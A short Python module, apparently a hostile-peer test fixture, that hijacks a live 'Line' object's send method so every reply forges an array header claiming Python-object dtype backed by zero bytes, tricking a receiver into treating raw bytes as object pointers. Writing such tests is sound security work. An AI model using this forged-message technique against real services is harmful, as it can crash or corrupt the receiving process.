"""Claims an array of Python objects: a pickle by the back door."""
import gc

(line,) = (thing for thing in gc.get_objects() if type(thing).__name__ == "Line")


def send(head, buffers, true=type(line).send):
    true(line, {"id": head.get("id"), "ok": {"t": "a", "d": "|O", "s": [1], "n": 0}}, [b"\0" * 8])

line.send = send
